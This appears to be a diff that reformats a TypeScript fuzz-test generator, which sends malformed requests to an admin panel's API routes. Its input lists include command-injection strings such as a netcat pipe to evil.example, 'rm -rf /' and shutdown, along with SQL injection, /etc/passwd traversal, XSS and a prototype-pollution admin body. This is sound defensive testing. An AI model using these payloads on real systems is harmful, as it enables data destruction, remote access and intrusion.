@@ -15,17 +15,118 @@ export interface FuzzRequest {
   kind: string;
 }
 
-const SHELL = ["$(reboot)", "`id`", ";rm -rf /", "| nc evil.example 4444", "&& shutdown -h now", "'; DROP TABLE \"User\"; --", "${IFS}cat${IFS}/etc/passwd", "\\", "../../etc/passwd", "%s%n%x", "{{7*7}}", "<script>alert(1)</script>", "-----END OPENSSH PRIVATE KEY-----"];
-const SPOOFS = ["a\nb", "a\r\nb", "a\u2028b", "a\u2029b", "x\u202Egnp.exe", "\u2066x\u2069", "a\u200Fb", "a\u061Cb", "a\tb", "\u001b[31mred"];
-const BAD_DIGITS = ["2147483648", "1099511627776", "9223372036854775808", "99999999999999999999999", "-1", "0", "1e3", "0x10", "1.5", "+7", "NaN", "Infinity"];
-const BAD_ESCAPES = ["%ff", "%", "%zz", "%E0%A4%A", "%00", "a%00b", "%C0%AF", "%uFFFF", "%2F", "%2e%2e", "..%2F..%2Fetc%2Fpasswd", "%F0%9F", "%0A", "%E2%80%AE", "%ED%A0%80"];
-const FIELD_NAMES = ["name", "code", "description", "username", "password", "role", "disabled", "kind", "privateKey", "address", "sshPort", "sshUser", "datacenterId", "credentialId", "labels", "fingerprint", "diskPath", "brokerClusterName", "rocketmqVersion", "draft", "step", "note", "markDesired", "files", "nameServers", "clusterId", "revision", "source", "action", "target", "force"];
-const WRONG_TYPES = ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/jsonx", "application/json; charset=latin1", "application/xml", "application/octet-stream", "application/json-patch+json", "json", ""];
+const SHELL = [
+  "$(reboot)",
+  "`id`",
+  ";rm -rf /",
+  "| nc evil.example 4444",
+  "&& shutdown -h now",
+  '\'; DROP TABLE "User"; --',
+  "cat$IFS/etc/passwd",
+  "\\",
+  "../../etc/passwd",
+  "%s%n%x",
+  "{{7*7}}",
+  "<script>alert(1)</script>",
+  "-----END OPENSSH PRIVATE KEY-----",
+];
+const SPOOFS = [
+  "a\nb",
+  "a\r\nb",
+  "a\u2028b",
+  "a\u2029b",
+  "x\u202Egnp.exe",
+  "\u2066x\u2069",
+  "a\u200Fb",
+  "a\u061Cb",
+  "a\tb",
+  "\u001b[31mred",
+];
+const BAD_DIGITS = [
+  "2147483648",
+  "1099511627776",
+  "9223372036854775808",
+  "99999999999999999999999",
+  "-1",
+  "0",
+  "1e3",
+  "0x10",
+  "1.5",
+  "+7",
+  "NaN",
+  "Infinity",
+];
+const BAD_ESCAPES = [
+  "%ff",
+  "%",
+  "%zz",
+  "%E0%A4%A",
+  "%00",
+  "a%00b",
+  "%C0%AF",
+  "%uFFFF",
+  "%2F",
+  "%2e%2e",
+  "..%2F..%2Fetc%2Fpasswd",
+  "%F0%9F",
+  "%0A",
+  "%E2%80%AE",
+  "%ED%A0%80",
+];
+const FIELD_NAMES = [
+  "name",
+  "code",
+  "description",
+  "username",
+  "password",
+  "role",
+  "disabled",
+  "kind",
+  "privateKey",
+  "address",
+  "sshPort",
+  "sshUser",
+  "datacenterId",
+  "credentialId",
+  "labels",
+  "fingerprint",
+  "diskPath",
+  "brokerClusterName",
+  "rocketmqVersion",
+  "draft",
+  "step",
+  "note",
+  "markDesired",
+  "files",
+  "nameServers",
+  "clusterId",
+  "revision",
+  "source",
+  "action",
+  "target",
+  "force",
+];
+const WRONG_TYPES = [
+  "text/plain",
+  "application/x-www-form-urlencoded",
+  "multipart/form-data; boundary=x",
+  "application/jsonx",
+  "application/json; charset=latin1",
+  "application/xml",
+  "application/octet-stream",
+  "application/json-patch+json",
+  "json",
+  "",
+];
 const BAD_ORIGINS = ["null", "https://evil.example", "http://[::1", "not a url", "file:///etc/passwd", "http://localhost:1"];
 
 /** Percent-encodes every byte but the unreserved ones; works for lone surrogates too (encodeURIComponent throws). */
 export const pct = (text: string) =>
-  [...Buffer.from(text, "utf8")].map((byte) => (/[A-Za-z0-9_.~-]/.test(String.fromCharCode(byte)) ? String.fromCharCode(byte) : `%${byte.toString(16).padStart(2, "0")}`)).join("");
+  [...Buffer.from(text, "utf8")]
+    .map((byte) =>
+      /[A-Za-z0-9_.~-]/.test(String.fromCharCode(byte)) ? String.fromCharCode(byte) : `%${byte.toString(16).padStart(2, "0")}`,
+    )
+    .join("");
 
 const junkString = fc.oneof(
   { weight: 4, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
@@ -43,8 +144,20 @@ const junkNumber = fc.oneof(
 );
 
 const junkValue: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown; object: Record<string, unknown> }>((tie) => ({
-  value: fc.oneof({ depthSize: "small" }, junkString, junkNumber, fc.boolean(), fc.constant(null), fc.array(tie("value"), { maxLength: 4 }), tie("object")),
-  object: fc.dictionary(fc.oneof(fc.constantFrom(...FIELD_NAMES), fc.string({ maxLength: 10 }), fc.constantFrom("constructor", "prototype", "toString")), tie("value"), { maxKeys: 5 }),
+  value: fc.oneof(
+    { depthSize: "small" },
+    junkString,
+    junkNumber,
+    fc.boolean(),
+    fc.constant(null),
+    fc.array(tie("value"), { maxLength: 4 }),
+    tie("object"),
+  ),
+  object: fc.dictionary(
+    fc.oneof(fc.constantFrom(...FIELD_NAMES), fc.string({ maxLength: 10 }), fc.constantFrom("constructor", "prototype", "toString")),
+    tie("value"),
+    { maxKeys: 5 },
+  ),
 })).value;
 
 const junkObject = (fields: string[]) => fc.dictionary(fc.constantFrom(...FIELD_NAMES, ...fields), junkValue, { maxKeys: 8 });
@@ -61,25 +174,43 @@ const json = (kind: string, data: string): Body => ({ kind, contentType: "applic
 function badBody(required: string[]): fc.Arbitrary<Body> {
   const object = junkObject(required);
   const variants = [
-    fc.oneof(fc.array(junkValue, { maxLength: 5 }), junkString, junkNumber, fc.boolean(), fc.constant(null)).map((value) => json("body not an object", JSON.stringify(value) ?? "null")),
-    fc.tuple(object, fc.constantFrom(...FIELD_NAMES, ...required), fc.constantFrom("\u0000", "a\u0000", "x\u0000; rm -rf /")).map(([fields, key, nul]) => json("NUL in a value", JSON.stringify({ ...fields, [key]: nul }))),
+    fc
+      .oneof(fc.array(junkValue, { maxLength: 5 }), junkString, junkNumber, fc.boolean(), fc.constant(null))
+      .map((value) => json("body not an object", JSON.stringify(value) ?? "null")),
+    fc
+      .tuple(object, fc.constantFrom(...FIELD_NAMES, ...required), fc.constantFrom("\u0000", "a\u0000", "x\u0000; rm -rf /"))
+      .map(([fields, key, nul]) => json("NUL in a value", JSON.stringify({ ...fields, [key]: nul }))),
     object.map((fields) => json("NUL in a key", JSON.stringify({ ...fields, "na\u0000me": 1 }))),
     object.map((fields) => json("__proto__ key", `{"__proto__":{"role":"admin","isAdmin":true},"rest":${JSON.stringify(fields)}}`)),
     fc.integer({ min: 33, max: 5_000 }).map((depth) => json("deep nesting", `{"draft":${"[".repeat(depth)}${"]".repeat(depth)}}`)),
     fc
-      .oneof(fc.constantFrom("{", "{'a':1}", "[1,]", "NaN", "undefined", '{"a":1}}', '"unterminated', "", '{"a":01}', "\u0000"), fc.string({ maxLength: 30 }))
+      .oneof(
+        fc.constantFrom("{", "{'a':1}", "[1,]", "NaN", "undefined", '{"a":1}}', '"unterminated', "", '{"a":01}', "\u0000"),
+        fc.string({ maxLength: 30 }),
+      )
       .filter((text) => !isJson(text))
       .map((text) => json("not JSON", text)),
-    fc.uint8Array({ minLength: 1, maxLength: 30 }).map((bytes) => ({ ...json("not UTF-8", ""), data: new Uint8Array(Buffer.concat([Buffer.from('{"name":"'), Buffer.from([0xff, 0xfe]), bytes, Buffer.from('"}')])) })),
-    fc.tuple(fc.constantFrom(...WRONG_TYPES), object).map(([contentType, fields]) => ({ kind: "wrong content type", contentType, data: JSON.stringify(fields) })),
+    fc.uint8Array({ minLength: 1, maxLength: 30 }).map((bytes) => ({
+      ...json("not UTF-8", ""),
+      data: new Uint8Array(Buffer.concat([Buffer.from('{"name":"'), Buffer.from([0xff, 0xfe]), bytes, Buffer.from('"}')])),
+    })),
+    fc
+      .tuple(fc.constantFrom(...WRONG_TYPES), object)
+      .map(([contentType, fields]) => ({ kind: "wrong content type", contentType, data: JSON.stringify(fields) })),
   ].map((arbitrary) => ({ arbitrary, weight: 10 }));
   // Leaving out one field the route requires makes the body invalid whatever the other fields hold, so the schema
   // itself gets to see wrong types, huge strings, overflowing numbers and shell syntax: the most common variant.
   if (required.length > 0) {
-    const missing = fc.tuple(object, fc.constantFrom(...required)).map(([fields, drop]) => json("required field missing", JSON.stringify(Object.fromEntries(Object.entries(fields).filter(([key]) => key !== drop)))));
+    const missing = fc
+      .tuple(object, fc.constantFrom(...required))
+      .map(([fields, drop]) =>
+        json("required field missing", JSON.stringify(Object.fromEntries(Object.entries(fields).filter(([key]) => key !== drop)))),
+      );
     variants.push({ arbitrary: missing, weight: 40 });
   }
-  const oversized = fc.integer({ min: 1024 * 1024, max: 1200 * 1024 }).map((size) => json("oversized body", JSON.stringify({ junk: "x".repeat(size) })));
+  const oversized = fc
+    .integer({ min: 1024 * 1024, max: 1200 * 1024 })
+    .map((size) => json("oversized body", JSON.stringify({ junk: "x".repeat(size) })));
   return fc.oneof(...variants, { arbitrary: oversized, weight: 1 });
 }
 
@@ -105,31 +236,62 @@ const segment = (name: string) =>
   );
 
 const query = fc
-  .dictionary(fc.oneof(fc.constantFrom("after", "to", "from", "limit", "clusterId", "node", "__proto__", "take"), fc.string({ maxLength: 8 })), fc.oneof(junkString, fc.constantFrom(...BAD_DIGITS)), { maxKeys: 3 })
-  .chain((entries) => fc.constantFrom("", "&%zz=%ff", "&x=%").map((raw) => Object.entries(entries).map(([k, v]) => `${pct(k)}=${pct(v).slice(0, 2_000)}`).join("&") + raw));
+  .dictionary(
+    fc.oneof(fc.constantFrom("after", "to", "from", "limit", "clusterId", "node", "__proto__", "take"), fc.string({ maxLength: 8 })),
+    fc.oneof(junkString, fc.constantFrom(...BAD_DIGITS)),
+    { maxKeys: 3 },
+  )
+  .chain((entries) =>
+    fc.constantFrom("", "&%zz=%ff", "&x=%").map(
+      (raw) =>
+        Object.entries(entries)
+          .map(([k, v]) => `${pct(k)}=${pct(v).slice(0, 2_000)}`)
+          .join("&") + raw,
+    ),
+  );
 
 /** Headers of a write that did not come from the panel's own pages. */
 const foreignOrigin = (own: string) =>
   fc.oneof(
-    fc.constantFrom(...BAD_ORIGINS, own.replace(/^http:/, "https:"), own.replace(/:(\d+)$/, (_, port) => `:${Number(port) + 1}`), "").map((origin) => ({ origin })),
+    fc
+      .constantFrom(
+        ...BAD_ORIGINS,
+        own.replace(/^http:/, "https:"),
+        own.replace(/:(\d+)$/, (_, port) => `:${Number(port) + 1}`),
+        "",
+      )
+      .map((origin) => ({ origin })),
     fc.constant({ origin: own, "sec-fetch-site": "cross-site" }),
   );
 
 /** One request the panel must refuse (writes) or answer without a 5xx (reads), for any route. */
 export function fuzzRequest(routes: ApiRoute[], required: Map<string, string[]>, ownOrigin: string): fc.Arbitrary<FuzzRequest> {
   return fc.constantFrom(...routes).chain((route) => {
-    const path = fc.tuple(...segmentNames(route.pattern).map(segment)).map((values) => values.reduce<string>((url, value) => url.replace(/\[[^\]]+\]/, () => value), route.pattern));
+    const path = fc
+      .tuple(...segmentNames(route.pattern).map(segment))
+      .map((values) => values.reduce<string>((url, value) => url.replace(/\[[^\]]+\]/, () => value), route.pattern));
     const who = fc.constantFrom<FuzzRequest["who"]>("admin", "anonymous");
     const unexported = ["GET", "POST", "PUT", "PATCH", "DELETE"].filter((m) => !route.methods.includes(m));
-    const method = unexported.length > 0 ? fc.oneof({ arbitrary: fc.constant(route.method), weight: 12 }, { arbitrary: fc.constantFrom(...unexported), weight: 1 }) : fc.constant(route.method);
+    const method =
+      unexported.length > 0
+        ? fc.oneof({ arbitrary: fc.constant(route.method), weight: 12 }, { arbitrary: fc.constantFrom(...unexported), weight: 1 })
+        : fc.constant(route.method);
     const base = fc.record({ who, method, path, query: fc.option(query, { freq: 2 }) });
     if (route.method === "GET") {
-      return base.map(({ who, method, path, query }) => ({ who, method, url: query ? `${path}?${query}` : path, headers: {}, kind: method === "GET" ? "read" : "method not allowed" }));
+      return base.map(({ who, method, path, query }) => ({
+        who,
+        method,
+        url: query ? `${path}?${query}` : path,
+        headers: {},
+        kind: method === "GET" ? "read" : "method not allowed",
+      }));
     }
     const body = route.takesBody ? badBody(required.get(`${route.method} ${route.pattern}`) ?? []) : fc.constant<Body | null>(null);
     // A write that takes neither a body nor an id (sign-out) succeeds from the panel's own origin: only a foreign one.
     const canSucceed = !route.takesBody && segmentNames(route.pattern).length === 0;
-    const foreign = canSucceed ? foreignOrigin(ownOrigin) : fc.oneof({ arbitrary: fc.constant(null), weight: 6 }, { arbitrary: foreignOrigin(ownOrigin), weight: 1 });
+    const foreign = canSucceed
+      ? foreignOrigin(ownOrigin)
+      : fc.oneof({ arbitrary: fc.constant(null), weight: 6 }, { arbitrary: foreignOrigin(ownOrigin), weight: 1 });
     return fc.record({ base, body, foreign }).map(({ base, body, foreign }) => ({
       who: base.who,
       method: base.method,
